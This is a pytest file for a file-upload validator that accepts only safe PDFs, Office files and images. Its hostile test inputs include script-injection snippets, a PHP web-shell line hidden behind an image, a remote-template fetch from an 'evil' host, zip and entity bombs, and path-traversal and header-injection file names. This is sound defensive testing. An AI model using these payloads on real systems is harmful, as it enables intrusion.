"""What a file is, by its content: the short list that is taken, and everything that only looks like it."""

from __future__ import annotations

from hashlib import sha256
from io import BytesIO

import pytest
from PIL import Image

from qingfu.base.errors import Bomb, Hostile, KindNotTaken, NotReadable, OtherContent, TooBig
from qingfu.papers import archive, content
from tests.unit.papers import hostile


def test_a_pdf_is_taken_as_it_is() -> None:
    kept = content.recognised("整改报告.pdf", hostile.PDF)
    assert (kept.name, kept.media_type, kept.data) == ("整改报告.pdf", "application/pdf", hostile.PDF)
    assert kept.sha256 == sha256(hostile.PDF).hexdigest()


@pytest.mark.parametrize(
    ("name", "data", "media"),
    [
        ("a.docx", hostile.docx(), "wordprocessingml.document"),
        ("a.xlsx", hostile.workbook([["a"]]), "spreadsheetml.sheet"),
    ],
)
def test_an_office_document_without_macros_is_taken(name: str, data: bytes, media: str) -> None:
    kept = content.recognised(name, data)
    assert kept.media_type.endswith(media)
    assert kept.data == data


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "p.jpeg"), ("PNG", "p.png"), ("WEBP", "p.webp")])
def test_an_image_is_taken_and_encoded_afresh(kind: str, name: str) -> None:
    kept = content.recognised(name, hostile.picture(kind))
    with Image.open(BytesIO(kept.data)) as seen:
        assert (seen.format, seen.size) == (kind, (40, 30))
    assert kept.name == name


def test_the_place_where_a_photo_was_taken_is_dropped() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SECRET-CAMERA"
    exif.get_ifd(0x8825)[1] = "N"
    data = hostile.picture("JPEG", exif=exif)
    assert b"SECRET-CAMERA" in data
    kept = content.recognised("p.jpg", data)
    assert b"SECRET-CAMERA" not in kept.data
    with Image.open(BytesIO(kept.data)) as seen:
        assert not dict(seen.getexif())


def test_a_photo_that_lies_on_its_side_is_set_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    kept = content.recognised("p.jpg", hostile.picture("JPEG", (40, 30), exif=exif))
    with Image.open(BytesIO(kept.data)) as seen:
        assert seen.size == (30, 40)


def test_a_large_photo_is_made_smaller() -> None:
    kept = content.recognised("p.jpg", hostile.picture("JPEG", (6000, 3000)))
    with Image.open(BytesIO(kept.data)) as seen:
        assert seen.size == (2560, 1280)


def test_a_picture_that_one_can_see_through_stays_so() -> None:
    kept = content.recognised("p.png", hostile.picture("PNG", mode="RGBA"))
    with Image.open(BytesIO(kept.data)) as seen:
        assert seen.mode == "RGBA"


def test_a_photo_with_another_images_ending_is_renamed() -> None:
    assert content.recognised("mmexport.jpg", hostile.picture("WEBP")).name == "mmexport.webp"


def test_the_same_photo_with_other_metadata_is_the_same_file() -> None:
    exif = Image.Exif()
    exif[0x010F] = "other camera"
    first = content.recognised("a.png", hostile.picture("PNG"))
    second = content.recognised("b.png", hostile.picture("PNG", exif=exif))
    assert first.sha256 == second.sha256


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a.html", b"<!doctype html><script>alert(1)</script>"),
        ("a.pdf", b"<html><script>alert(1)</script></html>"),
        ("a.exe", b"MZ\x90\x00" + bytes(200)),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        ("a.gif", b"GIF89a" + bytes(60)),
        ("a.txt", b"hello"),
        ("a.pdf", b""),
        ("a.zip", hostile.zipped({"a.txt": b"a"})),
        ("a.docx", hostile.zipped({"[Content_Types].xml": hostile.TYPES, "ppt/presentation.xml": b"<p/>"})),
    ],
)
def test_a_kind_that_is_not_on_the_list_is_refused_whatever_its_name(name: str, data: bytes) -> None:
    with pytest.raises(KindNotTaken):
        content.recognised(name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.jpg", hostile.PDF),
        ("a.docx", hostile.workbook([["a"]])),
        ("a.pdf", hostile.docx()),
        ("a.html", hostile.picture("PNG")),
        ("a", hostile.PDF),
    ],
)
def test_a_name_that_lies_about_the_content_is_refused(name: str, data: bytes) -> None:
    with pytest.raises(OtherContent):
        content.recognised(name, data)


@pytest.mark.parametrize(
    "data",
    [
        hostile.PDF + hostile.docx(),
        hostile.PDF + b"<script>alert(1)</script>",
        hostile.PDF[:-6] + hostile.zipped({"a": b"a"})[:-2] + b"\x06\x00%%EOF\n",
    ],
)
def test_a_pdf_that_is_something_else_as_well_is_refused(data: bytes) -> None:
    with pytest.raises(OtherContent):
        content.recognised("a.pdf", data)


def test_a_script_behind_an_image_is_gone() -> None:
    kept = content.recognised("a.jpg", hostile.picture("JPEG") + b"<?php system($_GET['c']); ?>" + hostile.docx())
    assert b"<?php" not in kept.data
    assert b"PK\x03\x04" not in kept.data


@pytest.mark.parametrize("act", [b"/JavaScript", b"/Launch", b"/EmbeddedFile"])
def test_a_pdf_that_does_something_when_opened_is_refused(act: bytes) -> None:
    with pytest.raises(KindNotTaken):
        content.recognised("a.pdf", hostile.PDF.replace(b"/Catalog", b"/Catalog " + act))


def test_a_pdf_cut_off_in_the_middle_is_refused() -> None:
    with pytest.raises(NotReadable):
        content.recognised("a.pdf", hostile.PDF[:30])


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "xl/macrosheets/s.xml",
        "x.js",
    ],
)
def test_an_office_document_with_something_that_runs_is_refused(part: str) -> None:
    with pytest.raises(KindNotTaken):
        content.recognised("a.docx", hostile.with_parts(hostile.docx(), {part: b"x"}))


def test_a_macro_workbook_renamed_to_xlsx_is_refused() -> None:
    types = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    with pytest.raises(KindNotTaken):
        content.recognised("a.xlsx", hostile.with_parts(hostile.workbook([["a"]]), {"[Content_Types].xml": types}))


@pytest.mark.parametrize(
    "relation",
    [
        b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>',
        b'<Relationship TargetMode="External" Target="http://evil/t.dotm" Type="http://x/attachedTemplate"/>',
    ],
)
def test_a_document_that_fetches_its_template_from_outside_is_refused(relation: bytes) -> None:
    rels = b"<Relationships>" + relation + b"</Relationships>"
    with pytest.raises(KindNotTaken):
        content.recognised(
            "a.docx",
            hostile.docx(word___rels__settings_xml=b"")
            and hostile.with_parts(hostile.docx(), {"word/_rels/settings.xml.rels": rels}),
        )


def test_a_zip_bomb_is_refused() -> None:
    bomb = hostile.with_parts(hostile.docx(), {"word/media/a.bin": bytes(archive.MOST_UNPACKED + 1)})
    assert len(bomb) < content.MOST_BYTES
    with pytest.raises(Bomb):
        content.recognised("a.docx", bomb)


def test_a_zip_bomb_that_lies_about_its_size_is_refused() -> None:
    data = hostile.with_parts(hostile.docx(), {"word/media/a.bin": bytes(3_000_000)})
    size = (3_000_000).to_bytes(4, "little")
    assert data.count(size) >= 1
    with pytest.raises(NotReadable):
        content.recognised("a.docx", data.replace(size, (10).to_bytes(4, "little")))


def test_a_zip_of_too_many_parts_is_refused() -> None:
    many = {f"word/{n}.xml": b"" for n in range(archive.MOST_PARTS)}
    with pytest.raises(Bomb):
        content.recognised("a.docx", hostile.with_parts(hostile.docx(), many))


def test_an_entity_bomb_is_refused() -> None:
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
    with pytest.raises(Bomb):
        content.recognised("a.docx", hostile.with_parts(hostile.docx(), {"word/document.xml": laughs}))


@pytest.mark.parametrize("part", ["../evil.xml", "/etc/x.xml", "word\\..\\..\\x.xml"])
def test_a_zip_that_climbs_out_of_its_folder_is_refused(part: str) -> None:
    with pytest.raises(OtherContent):
        content.recognised("a.docx", hostile.with_parts(hostile.docx(), {part: b"<x/>"}))


def test_a_damaged_zip_is_refused() -> None:
    with pytest.raises(NotReadable):
        content.recognised("a.docx", hostile.docx()[:-30])


def test_a_png_of_enormous_dimensions_is_refused_before_it_is_unpacked() -> None:
    data = hostile.huge_png(60_000, 60_000)
    assert len(data) < 200
    with pytest.raises(Bomb):
        content.recognised("a.png", data)


def test_a_png_without_its_pixels_is_refused() -> None:
    with pytest.raises(NotReadable):
        content.recognised("a.png", hostile.huge_png(500, 500))


def test_a_file_over_the_bound_is_refused_with_both_sizes() -> None:
    with pytest.raises(TooBig) as refused:
        content.recognised("a.pdf", hostile.PDF + bytes(content.MOST_BYTES))
    assert refused.value.facts == {"name": "a.pdf", "size": 11, "most": 10}


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\报告.pdf", "报告.pdf"),
        ("a\u202efdp.exe", "afdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
        ("...", "file"),
        ("长" * 200 + ".pdf", "长" * 116 + ".pdf"),
    ],
)
def test_a_file_name_is_made_safe_to_show(name: str, cleaned: str) -> None:
    assert content.cleaned(name) == cleaned


def test_every_refusal_says_what_to_do() -> None:
    with pytest.raises(Hostile) as refused:
        content.recognised("a.svg", b"<svg/>")
    assert "a.svg" in refused.value.text()
    assert refused.value.next_step()
